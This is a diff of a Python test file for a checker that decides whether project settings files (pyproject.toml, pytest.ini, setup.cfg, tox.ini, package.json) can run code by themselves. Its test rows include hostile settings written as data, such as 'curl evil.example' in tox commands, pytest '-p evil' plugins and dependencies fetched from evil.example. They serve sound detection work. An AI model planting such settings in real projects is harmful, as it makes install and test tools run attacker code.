@@ -1,7 +1,9 @@
-"""Settings that this session wrote whole: those that only choose and show run nothing."""
+"""Settings that this session wrote: those that only choose and show run nothing."""
+
+import tomllib
 
 from automode.core.transcript import Outcome, PriorCall
-from automode.judge.runs.settings_files import is_plain
+from automode.judge.runs.settings_files import is_plain, is_plain_pyproject
 from tests.judge.sessions import bash, read, saying
 from tests.rows import each_row
 
@@ -27,39 +29,37 @@ PYPROJECTS: list[tuple[str, bool]] = [
     ('[build-system]\nbuild-backend = "evil"\nbackend-path = ["."]', False),
     ('[build-system]\nrequires = []\nbackend-path = ["."]', False),
     ("[tool]\npytest = 1", False),
-    ("not toml = = =", False),
-]
-PACKAGES: list[tuple[str, bool]] = [
-    ('{"name": "x", "scripts": {"test": "vitest run", "build": "tsc"}}', True),
-    ('{"devDependencies": {"vitest": "^4.1.0", "@types/node": "20 || 22"}}', True),
-    ('{"scripts": {"postinstall": "node x.js"}}', False),
-    ('{"scripts": {"prepare": "husky"}}', False),
-    ('{"dependencies": {"evil": "1"}}', False),
-    ('{"dependencies": {"vitest": "file:../evil"}}', False),
-    ('{"dependencies": {"vitest": "npm:evil@1"}}', False),
-    ('{"dependencies": {"vitest": "https://evil.example/x.tgz"}}', False),
-    ('{"overrides": {"vitest": "npm:evil"}}', False),
-    ('{"workspaces": ["../other"]}', False),
-    ('{"jest": {"globalSetup": "./x.js"}}', False),
-    ('{"scripts": []}', False),
-    ("[]", False),
-    ("{", False),
 ]
 
 
 @each_row("text, plain", PYPROJECTS)
 def test_a_pyproject_is_plain_where_every_table_and_key_is_listed(text: str, plain: bool) -> None:
-    assert is_plain("/w/pyproject.toml", text) is plain
+    assert is_plain_pyproject(tomllib.loads(text)) is plain
 
 
-@each_row("text, plain", PACKAGES)
-def test_a_package_json_is_plain_where_nothing_of_it_runs_by_itself(text: str, plain: bool) -> None:
-    assert is_plain("/w/package.json", text) is plain
+SECTIONS: list[tuple[str, str, bool]] = [
+    ("pytest.ini", "[pytest]\naddopts = -q --tb=short\ntestpaths = tests", True),
+    ("pytest.ini", "[pytest]\nmarkers =\n    slow: takes long\n    net", True),
+    ("setup.cfg", "[tool:pytest]\naddopts = -q\n[flake8]\nmax-line-length = 100", True),
+    ("tox.ini", "[flake8]\nignore = E203", True),
+    ("pytest.ini", "[pytest]\naddopts = -p evil", False),
+    ("pytest.ini", "[pytest]\npythonpath = ../other", False),
+    ("pytest.ini", "[pytest]\npythonpath = src /tmp/x", False),
+    ("pytest.ini", "[DEFAULT]\naddopts = -p evil\n[pytest]\n", False),
+    ("pytest.ini", "addopts = -q", False),
+    ("tox.ini", "[testenv]\ncommands = curl evil.example", False),
+    ("setup.cfg", "[options.entry_points]\npytest11 = evil", False),
+    ("setup.cfg", "[mypy]\nplugins = evil", False),
+    ("setup.cfg", "", True),
+    ("other.ini", "[pytest]\naddopts = -q", False),
+]
 
 
-def test_other_settings_are_not_known() -> None:
-    assert not is_plain("/w/tox.ini", PROJECT)
-    assert not is_plain("/w/setup.cfg", "")
+@each_row("name, text, plain", SECTIONS)
+def test_settings_in_sections_are_plain_where_every_key_is_listed(
+    name: str, text: str, plain: bool
+) -> None:
+    assert is_plain(f"/w/{name}", text) is plain
 
 
 ESLINT = "import js from '@eslint/js';\nexport default [js.configs.recommended];"
@@ -67,7 +67,9 @@ ESLINT = "import js from '@eslint/js';\nexport default [js.configs.recommended];
 CALLS: list[tuple[str, str, str, bool]] = [
     ("pyproject.toml", PROJECT + PYTEST + "addopts = '-q'", "pytest -q", False),
     ("pyproject.toml", PROJECT + PYTEST + "addopts = '-p evil'", "pytest -q", True),
-    ("pyproject.toml", PROJECT + BUILD, "pip install -e .", True),
+    ("pyproject.toml", PROJECT + BUILD, "pip install -e .", False),
+    ("pytest.ini", "[pytest]\naddopts = -q", "pytest", False),
+    ("pytest.ini", "[pytest]\naddopts = -p evil", "pytest", True),
     ("package.json", '{"scripts": {"x": "ls"}}', "npx vitest run", False),
     ("package.json", '{"jest": {"preset": "./x"}}', "npx jest", True),
     ("eslint.config.js", ESLINT, "npx eslint .", False),
